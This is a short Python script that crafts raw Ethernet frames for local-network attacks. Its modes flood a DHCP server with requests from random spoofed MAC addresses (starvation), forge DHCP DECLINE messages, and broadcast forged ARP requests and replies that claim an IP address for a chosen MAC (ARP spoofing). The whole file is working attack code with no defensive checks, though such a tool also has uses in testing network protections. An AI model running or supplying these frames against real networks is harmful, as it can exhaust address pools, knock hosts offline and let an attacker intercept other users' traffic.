"""Frames that no honest host sends, from the interface that is named first."""

import random
import socket
import struct
import sys

interface, what, *words = sys.argv[1:]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind((interface, 0))
own = link.getsockname()[4]
everyone = b"\xff" * 6
draw = random.Random(1)


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def dhcp(sender, client, kind, options=b"", address=bytes(4)):
    """A DHCPv4 message of `client` in a frame of `sender`."""
    message = struct.pack(">BBBBIHH", 1, 1, 6, 0, draw.getrandbits(32), 0, 0x8000)
    message += address + bytes(12) + client + bytes(10 + 192)
    message += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
    message += bytes(max(0, 300 - len(message)))
    datagram = struct.pack(">HHHH", 68, 67, 8 + len(message), 0) + message
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0)
    header += bytes(4) + b"\xff" * 4
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    link.send(everyone + sender + b"\x08\x00" + header + datagram)


def made_up():
    return bytes([2]) + draw.randbytes(5)


if what == "starve":
    # A client at every turn, as DHCP starvation tools do.
    for _ in range(int(words[0])):
        client = made_up()
        dhcp(client, client, 1)
elif what == "names":
    # The clients are made up, the sender is not.
    for _ in range(int(words[0])):
        dhcp(own, made_up(), 1)
elif what == "decline":
    address, server = (socket.inet_aton(word) for word in words)
    dhcp(own, own, 4, bytes([50, 4]) + address + bytes([54, 4]) + server)
elif what == "router":
    # "I have this address", in every form that a neighbour might believe.
    mac, address = bytes.fromhex(words[0].replace(":", "")), socket.inet_aton(words[1])
    for operation, target in ((1, bytes(6)), (2, everyone)):
        arp = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation)
        arp += mac + address + target + address
        link.send(everyone + mac + b"\x08\x06" + arp + bytes(18))
else:
    sys.exit(f"there is no {what}")
